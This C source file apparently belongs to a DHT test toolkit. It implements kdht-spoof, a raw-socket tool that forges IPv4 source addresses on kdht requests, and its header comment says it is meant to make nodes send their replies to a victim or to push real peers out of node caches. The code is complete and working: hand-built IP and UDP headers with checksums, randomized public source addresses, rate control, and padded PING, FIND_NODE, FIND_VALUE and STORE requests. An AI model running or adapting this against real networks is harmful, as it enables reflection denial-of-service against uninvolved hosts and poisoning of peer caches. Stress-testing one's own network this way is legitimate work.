// SPDX-License-Identifier: (GPL-2.0 OR MIT)
/*
 * kdht-spoof: sends kdht requests under a forged IPv4 source address, as an
 * attacker who wants the nodes to send their answers (and whatever else they
 * send because of what they heard) to a victim, or who wants to push real
 * peers out of a node's caches with a spray of made-up sources. The IP and
 * UDP headers are our own (a raw socket, IP_HDRINCL), so any source goes.
 * Requests go to every --to target in turn, at --rate datagrams per second
 * in all, for --duration or until --count have left (a slow machine then
 * takes longer, but sends the same datagrams); the report counts what left (UDP payload bytes,
 * the same measure as kdht-flood's and kdht-sink's), as JSON with --json.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "opts.h"
#include "vmsg.h"

#define SPOOF_MAX_TARGETS	64
#define SPOOF_MAX_TYPES		8	/* --type entries, sent in turn */
#define SPOOF_MAX_SOURCES	1000000	/* --random-sources */
#define SPOOF_DEFAULT_SECONDS	"5"
#define SPOOF_DEFAULT_RATE	1000
#define SPOOF_DEFAULT_STORE	64	/* STORE value bytes */
#define SPOOF_TTL		64
#define SPOOF_STORE_TTL_S	3600

struct spoof {
	int fd;
	struct sockaddr_in to[SPOOF_MAX_TARGETS];
	unsigned int nto;
	uint8_t types[SPOOF_MAX_TYPES];
	unsigned int ntypes;
	struct sockaddr_in from;	/* the forged source, unless random */
	unsigned long random_sources;	/* 0: always from */
	unsigned long pad_to, store_len;
	bool have_token, have_key;
	uint8_t token[KDHT_TOKEN_LEN];
	uint8_t key[KDHT_ID_LEN];
	uint8_t sender[KDHT_ID_LEN];
	uint32_t txid;
	uint64_t seed;
	struct rng rng;
	uint64_t sent, bytes, ip_bytes, send_errors;
	uint64_t per_type[SPOOF_MAX_TYPES];
};

/* RFC 1071: the ones' complement sum, folded; start from a partial sum. */
static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t len)
{
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)(p[len - 1] << 8);
	return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/*
 * Source number i of the spray: a unicast address out of 1.0.0.0 to
 * 223.255.255.255 that no node refuses for its scope (not 10/8, where the
 * test mesh lives, nor loopback, nor link-local), and a port above 1023.
 * The same seed and i always give the same source, so that N sources are N.
 */
static void random_source(const struct spoof *s, uint64_t i, struct sockaddr_in *out)
{
	struct rng r;
	uint32_t a;

	rng_seed(&r, s->seed * 0x9e3779b97f4a7c15ull + i + 1);
	do {
		a = (uint32_t)rng_next(&r);
	} while ((a >> 24) == 0 || (a >> 24) == 10 || (a >> 24) == 127 ||
		 (a >> 24) > 223 || (a >> 16) == 0xa9fe);
	out->sin_family = AF_INET;
	out->sin_addr.s_addr = htonl(a);
	out->sin_port = htons((uint16_t)(1024 + rng_below(&r, 65536 - 1024)));
}

/* The body of a value request after the header; returns its length. */
static size_t value_body(struct spoof *s, uint8_t type, uint8_t *body)
{
	static uint8_t data[KDHT_MAX_BODY];
	struct kd_id key;

	if (s->have_key)
		memcpy(key.b, s->key, KDHT_ID_LEN);
	else
		rng_bytes(&s->rng, key.b, KDHT_ID_LEN);
	if (type == KDHT_MSG_FIND_VALUE) {
		struct kdd_find f = { .key = key };

		return kdd_vmsg_encode_find(body, KDHT_MAX_BODY, &f);
	}
	struct kdd_part p = {
		.key = key, .data = data, .len = (uint32_t)s->store_len, .parts = 1,
		.total_len = (uint32_t)s->store_len, .ttl_s = SPOOF_STORE_TTL_S,
	};

	rng_bytes(&s->rng, data, s->store_len);
	return kdd_vmsg_encode_store(body, KDHT_MAX_BODY, &p);
}

/* The kdht datagram at p; returns its length, 0 if the codec refused. */
static size_t build_request(struct spoof *s, uint8_t type, uint8_t *p)
{
	uint8_t *body = p + KDHT_HDR_LEN;
	size_t len = 0;

	if (type == KDHT_MSG_FIND_NODE) {
		rng_bytes(&s->rng, body, KDHT_ID_LEN);
		body[32] = KDHT_WANT_V4;
		body[33] = KDHT_MAX_NODES;
		body[34] = 0;
		body[35] = 0;
		len = KDHT_FIND_NODE_LEN;
	} else if (type != KDHT_MSG_PING) {
		len = value_body(s, type, body);
		if (!len)
			return 0;
	}
	hdr_write(p, KDHT_VERSION, type, 0, (uint16_t)len, ++s->txid,
		  s->have_token ? s->token : NULL, s->sender);
	return pad_datagram(p, KDHT_HDR_LEN + len, s->pad_to);
}

/* IPv4 and UDP headers in front of a payload of len bytes at pkt + 28. */
static size_t wrap_ip_udp(uint8_t *pkt, size_t len, const struct sockaddr_in *src,
			  const struct sockaddr_in *dst)
{
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(pkt + sizeof(*ip));
	size_t udp_len = sizeof(*udp) + len;
	uint8_t pseudo[12];
	uint32_t sum;

	memset(ip, 0, sizeof(*ip));
	ip->version = 4;
	ip->ihl = sizeof(*ip) / 4;
	ip->ttl = SPOOF_TTL;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + udp_len));
	ip->saddr = src->sin_addr.s_addr;
	ip->daddr = dst->sin_addr.s_addr;
	ip->check = htons(csum_fold(csum_add(0, pkt, sizeof(*ip))));
	udp->source = src->sin_port;
	udp->dest = dst->sin_port;
	udp->len = htons((uint16_t)udp_len);
	udp->check = 0;
	memcpy(pseudo, &ip->saddr, 4);
	memcpy(pseudo + 4, &ip->daddr, 4);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_UDP;
	put_be16(pseudo + 10, (uint16_t)udp_len);
	sum = csum_fold(csum_add(csum_add(0, pseudo, sizeof(pseudo)), (uint8_t *)udp, udp_len));
	udp->check = htons(sum ? (uint16_t)sum : 0xffff);
	return sizeof(*ip) + udp_len;
}

/* Datagram number n: its type, source and target each in turn. */
static void send_one(struct spoof *s, uint64_t n)
{
	static uint8_t pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + KDHT_MAX_DATAGRAM];
	const size_t off = sizeof(struct iphdr) + sizeof(struct udphdr);
	const struct sockaddr_in *to = &s->to[n % s->nto];
	unsigned int t = (unsigned int)((n / s->nto) % s->ntypes);
	struct sockaddr_in src = s->from;
	size_t len, total;

	if (s->random_sources)
		random_source(s, rng_below(&s->rng, (uint32_t)s->random_sources), &src);
	len = build_request(s, s->types[t], pkt + off);
	if (!len) {
		s->send_errors++;
		return;
	}
	total = wrap_ip_udp(pkt, len, &src, to);
	if (sendto(s->fd, pkt, total, 0, (const struct sockaddr *)to, sizeof(*to)) !=
	    (ssize_t)total) {
		s->send_errors++;
		return;
	}
	s->sent++;
	s->per_type[t]++;
	s->bytes += len;
	s->ip_bytes += total;
}

/* Sends at rate for duration_ns, or count datagrams if count is not 0. */
static void run(struct spoof *s, unsigned long rate, uint64_t duration_ns, uint64_t count,
		uint64_t *elapsed_ns)
{
	const struct timespec tick = { 0, 1000000 };
	uint64_t start = now_ns(), now = start, n = 0, due;

	while (count ? n < count : now - start < duration_ns) {
		due = (now - start) * rate / 1000000000ull + 1;
		if (count && due > count)
			due = count;
		while (n < due)
			send_one(s, n++);
		if (count && n == count)
			break;
		nanosleep(&tick, NULL);
		now = now_ns();
	}
	*elapsed_ns = now - start;
}

static const char *type_name(uint8_t type)
{
	switch (type) {
	case KDHT_MSG_PING:
		return "ping";
	case KDHT_MSG_FIND_NODE:
		return "find_node";
	case KDHT_MSG_FIND_VALUE:
		return "find_value";
	default:
		return "store";
	}
}

static void print_counts(const struct spoof *s, uint64_t elapsed_ns, bool json)
{
	double secs = (double)elapsed_ns / 1e9;
	struct figure fig[6 + SPOOF_MAX_TYPES] = {
		{ "sent", (double)s->sent, 0 }, { "bytes", (double)s->bytes, 0 },
		{ "ip_bytes", (double)s->ip_bytes, 0 },
		{ "send_errors", (double)s->send_errors, 0 },
		{ "seconds", secs, 3 }, { "sent_per_s", (double)s->sent / secs, 1 },
	};
	unsigned int i, n = 6, k;

	/* One count per distinct type: "ping,ping" is still one "ping". */
	for (i = 0; i < s->ntypes; i++) {
		for (k = 6; k < n && strcmp(fig[k].name, type_name(s->types[i])); k++)
			;
		if (k == n)
			fig[n++] = (struct figure){ type_name(s->types[i]), 0, 0 };
		fig[k].value += (double)s->per_type[i];
	}
	figures_print(fig, n, json);
}

static int parse_types(const char *arg, void *dest)
{
	static const struct { const char *name; uint8_t type; } known[] = {
		{ "ping", KDHT_MSG_PING }, { "find_node", KDHT_MSG_FIND_NODE },
		{ "find_value", KDHT_MSG_FIND_VALUE }, { "store", KDHT_MSG_STORE },
	};
	struct spoof *s = dest;
	const char *p = arg;
	size_t len, i;

	s->ntypes = 0;
	while (*p) {
		len = strcspn(p, ",");
		for (i = 0; i < sizeof(known) / sizeof(known[0]); i++)
			if (strlen(known[i].name) == len && !strncmp(p, known[i].name, len))
				break;
		if (i == sizeof(known) / sizeof(known[0]) || s->ntypes == SPOOF_MAX_TYPES) {
			fprintf(stderr, "kdht-spoof: --type: up to %d of ping, find_node, "
				"find_value, store, comma-separated, not '%s'\n", SPOOF_MAX_TYPES, arg);
			return -EINVAL;
		}
		s->types[s->ntypes++] = known[i].type;
		p += len + (p[len] == ',');
	}
	return s->ntypes ? 0 : -EINVAL;
}

/* An IPv4 ADDR:PORT into a sockaddr_in. */
static int ipv4_endpoint(const char *arg, const char *opt, struct sockaddr_in *out)
{
	struct endpoint ep;

	if (endpoint_parse(arg, KDHT_DEFAULT_PORT, &ep) || ep.ss.ss_family != AF_INET) {
		fprintf(stderr, "kdht-spoof: %s: not an IPv4 ADDR[:PORT]: '%s'\n", opt, arg);
		return -EINVAL;
	}
	memcpy(out, &ep.ss, sizeof(*out));
	return 0;
}

static int add_target(const char *arg, void *dest)
{
	struct spoof *s = dest;

	if (s->nto == SPOOF_MAX_TARGETS) {
		fprintf(stderr, "kdht-spoof: at most %d --to targets\n", SPOOF_MAX_TARGETS);
		return -EINVAL;
	}
	if (ipv4_endpoint(arg, "--to", &s->to[s->nto]))
		return -EINVAL;
	s->nto++;
	return 0;
}

static int parse_from(const char *arg, void *dest)
{
	return ipv4_endpoint(arg, "--from", dest);
}

struct spoof_cmdline {
	unsigned long rate;
	unsigned long count;
	uint64_t duration_ns;
	bool json, have_id, have_from;
};

static int parse_cmdline(int argc, char **argv, struct spoof *s, struct spoof_cmdline *o)
{
	const struct tool_opt opts[] = {
		{ OPT("to", 'D', OPT_CUSTOM, s, "ADDR:PORT",
		      "a node to send to; repeat for several (at most "
		      OPTS_STR(SPOOF_MAX_TARGETS) ")"), .parse = add_target },
		{ OPT("from", 'f', OPT_CUSTOM, &s->from, "ADDR:PORT",
		      "the forged source of every datagram"), .parse = parse_from,
		  .seen = &o->have_from },
		{ OPT("random-sources", 'R', OPT_UINT, &s->random_sources, "N",
		      "instead, each datagram from one of N random sources"),
		  .min = 1, .max = SPOOF_MAX_SOURCES },
		{ OPT("type", 't', OPT_CUSTOM, s, "T[,T...]",
		      "ping, find_node, find_value, store, sent in turn (default ping)"),
		  .parse = parse_types },
		{ OPT("rate", 'r', OPT_UINT, &o->rate, "N",
		      "datagrams per second, all targets together (default "
		      OPTS_STR(SPOOF_DEFAULT_RATE) ")"), .min = 1, .max = 1000000 },
		{ OPT("duration", 'd', OPT_SECONDS, &o->duration_ns, "S",
		      "seconds of sending (default " SPOOF_DEFAULT_SECONDS ")") },
		{ OPT("count", 'n', OPT_UINT, &o->count, "N",
		      "instead, send N datagrams at --rate, however long it takes"),
		  .min = 1, .max = ~0ul },
		{ OPT("pad", 'p', OPT_UINT, &s->pad_to, "N", "pad each request to N bytes"),
		  .max = KDHT_MAX_DATAGRAM },
		{ OPT("token", 'T', OPT_HEX, s->token, "HEX",
		      "send this token (16 hex digits) in every request"),
		  .max = KDHT_TOKEN_LEN, .seen = &s->have_token },
		{ OPT("key", 'k', OPT_HEX, s->key, "HEX",
		      "FIND_VALUE and STORE key (default: random per request)"),
		  .max = KDHT_ID_LEN, .seen = &s->have_key },
		{ OPT("store-size", 'z', OPT_UINT, &s->store_len, "N",
		      "STORE value bytes (default " OPTS_STR(SPOOF_DEFAULT_STORE) ")"),
		  .min = 1, .max = KDD_PART_LEN },
		{ OPT("id", 'i', OPT_HEX, s->sender, "HEX", "our sender id (default: random)"),
		  .max = KDHT_ID_LEN, .seen = &o->have_id },
		OPT_SEED_ENTRY(&s->seed, "seed for ids, keys and sources (default 1)"),
		OPT_JSON_ENTRY(&o->json),
		OPTS_END,
	};
	const struct tool t = { "kdht-spoof", "[options] --to ADDR:PORT... (--from ADDR:PORT | "
				"--random-sources N)", NULL, opts, 0 };
	int argi;

	*o = (struct spoof_cmdline){ .rate = SPOOF_DEFAULT_RATE };
	s->seed = 1;
	s->store_len = SPOOF_DEFAULT_STORE;
	s->types[0] = KDHT_MSG_PING;
	s->ntypes = 1;
	if (seconds_parse(SPOOF_DEFAULT_SECONDS, "--duration", &o->duration_ns))
		return OPTS_BAD;
	argi = opts_parse(&t, argc, argv);
	if (argi < 0)
		return argi;
	if (!s->nto || o->have_from == !!s->random_sources) {
		fprintf(stderr, "kdht-spoof: give --to, and either --from or --random-sources\n");
		return OPTS_BAD;
	}
	return argi;
}

int main(int argc, char **argv)
{
	static struct spoof s;
	struct spoof_cmdline o;
	uint64_t elapsed_ns;
	int ret;

	ret = parse_cmdline(argc, argv, &s, &o);
	if (ret < 0)
		return opts_exit_status(ret);
	rng_seed(&s.rng, s.seed);
	if (!o.have_id)
		rng_bytes(&s.rng, s.sender, KDHT_ID_LEN);
	/* IPPROTO_RAW: we write the IP header ourselves (IP_HDRINCL). */
	s.fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (s.fd < 0) {
		perror("kdht-spoof: raw socket (needs CAP_NET_RAW)");
		return 1;
	}
	run(&s, o.rate, o.duration_ns, o.count, &elapsed_ns);
	print_counts(&s, elapsed_ns, o.json);
	close(s.fd);
	return 0;
}
